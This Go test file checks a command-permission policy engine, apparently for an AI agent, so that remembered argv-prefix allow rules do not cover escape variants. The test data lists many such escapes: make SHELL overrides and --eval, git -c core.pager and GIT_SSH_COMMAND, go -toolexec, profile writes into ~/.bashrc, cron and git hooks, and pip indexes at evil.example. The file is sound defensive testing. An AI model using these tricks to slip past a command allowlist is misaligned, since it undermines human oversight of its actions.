package policy

import (
	"context"
	"strings"
	"testing"

	"github.com/mnemos-dev/mnemos/classify"
	"github.com/mnemos-dev/mnemos/shellparse"
)

const rememberedPolicy = `level: supervised
rules:
  - {name: make test, action: allow, command: {argv_prefix: [make, test]}}
  - {name: make ci, action: allow, command: {argv_prefix: [make, -f, ci.mk]}}
  - {name: npm test, action: allow, command: {argv_prefix: [npm, test]}}
  - {name: git log, action: allow, command: {argv_prefix: [git, log]}}
  - {name: git, action: allow, command: {argv_prefix: [git]}}
  - {name: go test, action: allow, command: {argv_prefix: [go, test]}}
  - {name: cargo test, action: allow, command: {argv_prefix: [cargo, test]}}
  - {name: pip install, action: allow, command: {argv_prefix: [pip, install, requests]}}
  - {name: python x, action: allow, command: {argv_prefix: [python3, x.py]}}
  - {name: sed print, action: allow, command: {argv_prefix: [sed, -n, p, notes.txt]}}
  - {name: tar list, action: allow, command: {argv_prefix: [tar, -tf, a.tar]}}
  - {name: ask make, action: ask, command: {argv_prefix: [make, deploy]}}
`

// matchedRule is the name of the rule that decides the first command of
// src under p, "" when none matches.
func matchedRule(t *testing.T, p *Policy, src string) string {
	t.Helper()
	s, err := shellparse.ParseScript(src, shellparse.Env{Home: "/home/u", Cwd: "/w"})
	if err != nil || len(s.Commands) == 0 {
		t.Fatalf("%s: %v", src, err)
	}
	in := Input{Command: s.Commands[0], Place: classify.Place{Dirs: []string{"/w"}, Home: "/home/u", Workspace: "/w"},
		Workspace: "/w", Level: Supervised, Cwd: "/w", Channel: "cli", Sender: "dev"}
	res, err := p.Evaluate(context.Background(), in, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Rule == nil {
		return ""
	}
	return res.Rule.Name
}

// TestSecurityRememberedPrefixDoesNotCoverEscapes: an allow rule's
// argv_prefix covers the command it names, not one whose later words, or
// whose environment, make it run other code, read another file set or
// work elsewhere. Those are judged on their own.
func TestSecurityRememberedPrefixDoesNotCoverEscapes(t *testing.T) {
	p := mustParse(t, rememberedPolicy)
	covered := map[string]string{
		"make test":                       "make test",
		"make test -j4 -k":                "make test",
		"make test -O":                    "make test",
		"make -f ci.mk":                   "make ci",
		"make -f ci.mk all":               "make ci",
		"npm test":                        "npm test",
		"npm test -- --watch=false":       "npm test",
		"git log --oneline -n 5":          "git log",
		"git status":                      "git",
		"git commit -C HEAD":              "git",
		"go test ./...":                   "go test",
		"go test -run TestX -count=1 ./.": "go test",
		"cargo test --release":            "cargo test",
		"pip install requests":            "pip install",
		"python3 x.py -c config.toml":     "python x",
		"sed -n p notes.txt":              "sed print",
		"tar -tf a.tar":                   "tar list",
		"tar -tf a.tar -v":                "tar list",
		"LANG=C make test":                "make test",
		"GIT_PAGER=cat git log":           "git log",
		"make deploy -f evil.mk":          "ask make",
	}
	for src, want := range covered {
		if got := matchedRule(t, p, src); got != want {
			t.Errorf("%s: rule %q, want %q", src, got, want)
		}
	}
	for _, src := range []string{
		// make: another makefile, directory, statement, shell or variable.
		"make test -f other.mk", "make test --file=other.mk", "make test --fi=other.mk", "make test --makefile other.mk",
		"make test -kf other.mk", "make test -C /elsewhere", "make test --directory=/elsewhere",
		"make test --eval='x:=$(shell id)'", "make test -E 'x:=1'", "make test -I /tmp/inc", "make test -e",
		"make test SHELL=/tmp/sh", "make test CC=/tmp/cc", "make -f ci.mk -f evil.mk", "make test .SHELLFLAGS=-ec",
		"make test SHELL:=/tmp/sh", "make test -Bf x.mk", "make test --dir=/tmp", "npm test --pre=/tmp/p",
		"SHELL=/tmp/sh make test", "CC=/tmp/cc make test", "MAKEFLAGS=-f/tmp/x make test",
		"make test $EXTRA",
		// npm: another prefix, configuration or shell.
		"npm test --prefix /tmp/p", "npm test -C /tmp/p", "npm test --userconfig /tmp/npmrc",
		"npm test --script-shell=/tmp/sh", "npm test --scri=/tmp/sh", "npm test --node-options=--require=/tmp/x.js",
		"npm_config_script_shell=/tmp/sh npm test",
		// git: another configuration, repository or program.
		"git -c core.pager=id log", "git -C /elsewhere log", "git --git-dir=/tmp/r log", "git --work-tree /tmp log",
		"git --exec-path=/tmp/x log", "git --namespace x log", "git log --ext-diff", "git log -p --textconv",
		"git fetch --upload-pack='id' origin", "git clone -u id x y", "git clone -c core.fsmonitor=id x",
		"git rebase -x id main", "git grep -O id TODO", "git submodule foreach id", "git config --file /tmp/c x.y z",
		"GIT_DIR=/tmp/r git log", "GIT_SSH_COMMAND=id git log", "GIT_TRACE=/home/u/.bashrc git log",
		// go test: the profiles, traces and coverage files it writes
		// wherever they name.
		"go test -cpuprofile=/etc/cron.d/x ./...", "go test -coverprofile ~/.bashrc ./...", "go test -trace=.git/hooks/pre-commit .",
		"go test -test.memprofile=.envrc .", "go test -outputdir /tmp/x -blockprofile b.out .",
		// go: another directory, tool runner or output.
		"go test -toolexec /tmp/x ./...", "go test -exec=/tmp/x ./...", "go test --toolexec=/tmp/x",
		"go test -modfile=/tmp/go.mod", "go test -overlay /tmp/o.json", "go test -o /home/u/.local/bin/x",
		"GOFLAGS=-toolexec=/tmp/x go test ./...",
		// cargo and pip: another configuration, index or file set.
		"cargo test --config 'target.x.runner=\"id\"'", "cargo test --manifest-path /tmp/Cargo.toml",
		"pip install requests -i https://evil.example/simple", "pip install requests --index-url https://evil.example",
		"pip install requests -r /tmp/reqs.txt", "pip install requests --extra-index https://evil.example",
		// What the options add: a write the prefix does not make.
		"sed -n p notes.txt -i", "tar -tf a.tar -C /etc", "tar -tf a.tar --to-command=id",
	} {
		if got := matchedRule(t, p, src); got != "" && got != "ask make" {
			t.Errorf("%s: covered by rule %q", src, got)
		}
	}
	// A prefix never matches another program's use: python3 -c is not
	// python3 x.py.
	if got := matchedRule(t, p, "python3 -c 'import os' x.py"); got != "" {
		t.Errorf("python3 -c: covered by %q", got)
	}
}

// TestSecurityPinnedRuleMatchesOnlyThePinnedCommand: a rule remembered
// with a pin matches while the command's pin is the same, never when it
// differs or cannot be computed.
func TestSecurityPinnedRuleMatchesOnlyThePinnedCommand(t *testing.T) {
	pin := "sha256:" + strings.Repeat("ab", 32)
	p := mustParse(t, "level: supervised\nrules:\n  - {name: m, action: allow, command: {argv_prefix: [make, test], pin: \""+pin+"\"}}\n")
	if p.Rules[0].Pin != pin {
		t.Fatalf("pin not parsed: %+v", p.Rules[0])
	}
	s, _ := shellparse.ParseScript("make test", shellparse.Env{Home: "/home/u", Cwd: "/w"})
	in := Input{Command: s.Commands[0], Place: classify.Place{Dirs: []string{"/w"}, Home: "/home/u"}, Workspace: "/w", Level: Supervised,
		Channel: "cli", Sender: "dev"}
	for _, c := range []struct {
		pins PinSource
		want bool
	}{{fixedPin(pin), true}, {fixedPin("sha256:" + strings.Repeat("cd", 32)), false}, {nil, false}} {
		in.Pins = c.pins
		res, err := p.Evaluate(context.Background(), in, nil)
		if err != nil {
			t.Fatal(err)
		}
		if (res.Rule != nil) != c.want {
			t.Errorf("pins %v: rule %v, want matched %v", c.pins, res.Rule, c.want)
		}
	}
	// The file round-trips, and a malformed pin is refused.
	out, err := AddPinnedAllowRule("p.yaml", []byte("level: supervised\n"), "r", []string{"make", "test"}, pin)
	if err != nil || !strings.Contains(string(out), pin) {
		t.Fatalf("AddPinnedAllowRule: %v\n%s", err, out)
	}
	if _, err := Parse("p.yaml", []byte("rules:\n  - {name: m, action: allow, command: {argv_prefix: [make], pin: abc}}\n")); err == nil {
		t.Error("a malformed pin was accepted")
	}
}

type fixedPin string

func (f fixedPin) Pin(shellparse.Command) string { return string(f) }
